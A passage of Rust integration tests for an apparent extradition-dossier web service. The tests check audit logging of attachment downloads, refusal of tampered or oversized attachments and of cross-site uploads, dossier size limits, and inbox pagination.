            .status,
        StatusCode::NOT_FOUND
    );

    // Every download is in the audit trail, by number, kind, size and SHA-256, not by name.
    let trail = w.trail(&auditor);
    let downloads: Vec<&String> = trail
        .iter()
        .filter(|r| r.contains("attachment downloaded"))
        .collect();
    assert_eq!(downloads.len(), 2, "{trail:?}");
    assert!(
        downloads[1].contains("ivan")
            && downloads[1].contains(&format!(
                "request {request}, attachment 1 (warrant, {} bytes, SHA-256 {})",
                WARRANT.len(),
                digest(WARRANT)
            )),
        "{downloads:?}"
    );
    assert!(downloads[0].contains("olga") && downloads[0].contains("attachment 2 (evidence"));
    assert!(!trail.iter().any(|r| r.contains("evil")), "{trail:?}");
}

#[test]
fn an_altered_attachment_is_refused_not_served() {
    let mut w = World::new();
    let agreement = w.agreement();
    // Russia files a dossier whose attachment's bytes are not those its SHA-256 names.
    let mut dossier = serde_json::to_value(rex_domain::StructuredDossier::new(
        Default::default(),
        "RU dossier".into(),
        vec![rex_domain::Attachment::new(
            rex_domain::AttachmentKind::Warrant,
            "ордер.pdf",
            WARRANT.to_vec(),
        )
        .unwrap()],
    ))
    .unwrap();
    dossier["attachments"][0]["sha256"] = rex_domain::Digest::of(b"another warrant")
        .to_string()
        .into();
    let (request, _) =
        w.ru.file_request(draft("RU", "US", agreement), dossier.to_string().as_bytes())
            .unwrap();
    w.desk.sync_now().unwrap();
    let case = w.officer("jroe", "case-officer");
    let page = w.get(&format!("/requests/{request}/dossier"), &case);
    assert_eq!(page.status, StatusCode::OK);
    assert!(
        page.texts("p.bad")[0].contains("attachment 1 (\"ордер.pdf\"): its bytes have SHA-256"),
        "{}",
        page.body
    );
    assert!(page.cells("table.attachments tbody tr").is_empty());
    let refused = w.get(&format!("/requests/{request}/attachments/1"), &case);
    refused.refused(
        StatusCode::UNPROCESSABLE_ENTITY,
        "the dossier was altered or damaged; nothing of it is served",
    );
}

#[test]
fn an_oversized_or_cross_site_upload_is_refused_with_a_page_that_says_why() {
    let w = World::new();
    let drafter = w.officer("jroe", "case-officer");
    let big = vec![0u8; rex_domain::MAX_ATTACHMENT_BYTES + 1];
    let refused = w.upload(
        &drafter,
        "same-origin",
        &[("attach_evidence", "disk.img", &big)],
    );
    refused.refused(
        StatusCode::PAYLOAD_TOO_LARGE,
        "the evidence disk.img is larger than the 8 MiB one attachment may have; split it or compress it",
    );
    assert!(refused.body.contains("<html"), "a page: {}", refused.body);
    // Beyond the form's limit the body is not read to its end.
    let huge = vec![0u8; 7 << 20];
    let files: Vec<(&str, &str, &[u8])> = vec![
        ("attach_evidence", "a.bin", &huge),
        ("attach_evidence", "b.bin", &huge),
    ];
    w.upload(&drafter, "same-origin", &files).refused(
        StatusCode::PAYLOAD_TOO_LARGE,
        "attach at most 10 MiB in all and 8 MiB per file",
    );
    let two: Vec<(&str, &str, &[u8])> = vec![
        ("attach_evidence", "a.bin", &huge[..6 << 20]),
        ("attach_evidence", "b.bin", &huge[..5 << 20]),
    ];
    w.upload(&drafter, "same-origin", &two).refused(
        StatusCode::UNPROCESSABLE_ENTITY,
        "more than the 10 MiB a dossier may carry",
    );
    w.upload(
        &drafter,
        "same-origin",
        &[("attach_rootkit", "x.bin", b"x")],
    )
    .refused(StatusCode::UNPROCESSABLE_ENTITY, "attachment kind");
    // The multipart form is refused from another site, like every form.
    let forged = w.upload(
        &drafter,
        "cross-site",
        &[("attach_warrant", "warrant.pdf", WARRANT)],
    );
    assert_eq!(forged.status, StatusCode::FORBIDDEN);
    let drafts = w.get("/approvals", &drafter);
    assert!(
        drafts.cells("tbody tr").is_empty(),
        "nothing drafted: {}",
        drafts.body
    );
}

#[test]
fn a_dossier_at_the_attachment_limits_fits_the_hub() {
    let mut w = World::new();
    let agreement = w.agreement();
    let a = |name: &str, n: usize| {
        rex_domain::Attachment::new(rex_domain::AttachmentKind::Evidence, name, vec![0xa5; n])
            .unwrap()
    };
    let mut dossier = rex_domain::StructuredDossier::new(
        Default::default(),
        String::new(),
        vec![
            a("image.bin", rex_domain::MAX_ATTACHMENT_BYTES),
            a(
                "rest.bin",
                rex_domain::MAX_ATTACHMENTS_BYTES - rex_domain::MAX_ATTACHMENT_BYTES,
            ),
        ],
    );
    let room = rex_domain::MAX_DOSSIER_PLAINTEXT_BYTES - dossier.to_plaintext().unwrap().len();
    dossier.text = "x".repeat(room);
    let plaintext = dossier.to_plaintext().unwrap();
    assert_eq!(plaintext.len(), rex_domain::MAX_DOSSIER_PLAINTEXT_BYTES);
    let (_, filed) =
        w.ru.file_request(draft("RU", "US", agreement), &plaintext)
            .unwrap();
    assert!(filed.index > 0);
    const { assert!(rex_domain::MAX_DOSSIER_PLAINTEXT_BYTES < rex_hub::MAX_DOSSIER_BYTES) };
}

/// The inbox comes in pages of `QUEUE_PAGE`, newest first, with links between them; a page
/// that does not exist is refused in one line.
#[test]
fn the_inbox_comes_in_pages() {
    let mut w = World::new();
    let liaison = w.officer("lia", "liaison");
    for i in 0..=rex_web::QUEUE_PAGE {
        w.ru.send_message(rex_node::Outgoing {
            conversation: rex_domain::Conversation::Request { request: w.ru_asks },
            to: vec![party("US")],
            subject: format!("Letter {i}"),
            body: "Text.".into(),
            ack_within: 3 * 86_400,
        })
        .unwrap();
    }
    w.desk.sync_now().unwrap();
    let first = w.get("/messages", &liaison);
    assert_eq!(
        first.texts("table.inbox tbody tr").len(),
        rex_web::QUEUE_PAGE
    );
    assert_eq!(first.texts("nav.pages a[rel=next]"), ["Next page"]);
    let second = w.get("/messages?page=2", &liaison);
    assert_eq!(second.texts("table.inbox tbody tr").len(), 1);
    assert_eq!(second.texts("nav.pages a[rel=prev]"), ["Previous page"]);
    w.get("/messages?page=3", &liaison)
        .refused(StatusCode::UNPROCESSABLE_ENTITY, "the inbox has 2 pages");
}
